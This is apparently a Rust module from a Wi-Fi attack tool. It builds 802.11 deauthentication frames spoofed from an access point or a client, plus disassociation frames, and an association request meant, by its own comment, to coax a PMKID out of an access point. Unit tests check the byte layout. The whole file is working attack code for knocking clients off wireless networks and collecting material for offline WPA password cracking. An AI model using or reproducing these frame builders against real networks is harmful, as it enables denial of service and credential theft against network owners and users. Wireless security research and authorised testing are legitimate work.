use libwifi::frame::components::{MacAddress, SequenceControl, Ssid};
use libwifi::frame::{
    AssociationRequest, Deauthentication, Disassociation, ReasonCode, DEAUTH_FRAME_LEN,
};

/// 12 bit 802.11 sequence number.
#[derive(Clone, Copy, Debug, Default)]
pub struct SequenceCounter(u16);

impl SequenceCounter {
    pub fn next(&mut self) -> u16 {
        self.0 = (self.0 + 1) & 0x0fff;
        self.0
    }
}

fn sequence(number: u16) -> SequenceControl {
    SequenceControl {
        fragment_number: 0,
        sequence_number: number & 0x0fff,
    }
}

/// Deauth spoofed from the access point to `client` (or broadcast).
pub fn build_deauthentication_fm_ap(
    ap: &MacAddress,
    client: &MacAddress,
    sequence_number: u16,
    reason: ReasonCode,
) -> [u8; DEAUTH_FRAME_LEN] {
    let mut deauth = Deauthentication::new(*client, *ap, *ap, reason);
    deauth.header.sequence_control = sequence(sequence_number);
    deauth.encode()
}

/// Deauth spoofed from `client` to the access point.
pub fn build_deauthentication_fm_client(
    ap: &MacAddress,
    client: &MacAddress,
    sequence_number: u16,
    reason: ReasonCode,
) -> [u8; DEAUTH_FRAME_LEN] {
    let mut deauth = Deauthentication::new(*ap, *client, *ap, reason);
    deauth.header.sequence_control = sequence(sequence_number);
    deauth.encode()
}

pub fn build_disassociation_fm_ap(
    ap: &MacAddress,
    client: &MacAddress,
    sequence_number: u16,
) -> [u8; DEAUTH_FRAME_LEN] {
    let mut disassoc = Disassociation::new(
        *client,
        *ap,
        *ap,
        ReasonCode::DisassociatedBecauseStaLeaving,
    );
    disassoc.header.sequence_control = sequence(sequence_number);
    disassoc.encode()
}

/// Association request from our own address, used to coax a PMKID out of the access point.
pub fn build_association_request(
    ap: &MacAddress,
    station: &MacAddress,
    ssid: Ssid,
    channel: u8,
    sequence_number: u16,
) -> Vec<u8> {
    let mut request = AssociationRequest::new(*ap, *station, ssid, channel);
    request.header.sequence_control = sequence(sequence_number);
    request.encode()
}

#[cfg(test)]
mod tests {
    use super::*;
    use libwifi::frame::Frame;
    use libwifi::parse_frame;

    const AP: MacAddress = MacAddress([0xf8, 0x32, 0xe4, 0xad, 0x47, 0xb8]);
    const STA: MacAddress = MacAddress([0xc0, 0xee, 0xfb, 0x4b, 0xcf, 0x3a]);

    #[test]
    fn test_deauth_directions() {
        let from_ap = build_deauthentication_fm_ap(
            &AP,
            &STA,
            5,
            ReasonCode::Class3FrameFromNonAssociatedStation,
        );
        assert_eq!(from_ap[0], 0xc0);
        assert_eq!(&from_ap[4..10], &STA.0);
        assert_eq!(&from_ap[10..16], &AP.0);
        assert_eq!(&from_ap[22..24], &[0x50, 0x00]);
        assert_eq!(&from_ap[24..], &[7, 0]);

        let from_client =
            build_deauthentication_fm_client(&AP, &STA, 6, ReasonCode::Unspecified);
        assert_eq!(&from_client[4..10], &AP.0);
        assert_eq!(&from_client[10..16], &STA.0);
        assert_eq!(&from_client[24..], &[1, 0]);
    }

    #[test]
    fn test_disassociation_reason() {
        let frame = build_disassociation_fm_ap(&AP, &MacAddress::broadcast(), 1);
        assert_eq!(frame[0], 0xa0);
        assert_eq!(&frame[24..], &[8, 0]);
    }

    #[test]
    fn test_association_request_parses() {
        let bytes = build_association_request(&AP, &STA, Ssid::from("lab"), 6, 9);
        match parse_frame(&bytes, false) {
            Ok(Frame::AssociationRequest(request)) => {
                assert_eq!(request.header.address_1, AP);
                assert_eq!(request.header.sequence_control.sequence_number, 9);
                assert_eq!(request.station_info.ssid().to_string(), "lab");
            }
            other => panic!("unexpected parse result: {other:?}"),
        }
    }

    #[test]
    fn test_sequence_wraps() {
        let mut counter = SequenceCounter(0x0ffe);
        assert_eq!(counter.next(), 0x0fff);
        assert_eq!(counter.next(), 0);
    }
}
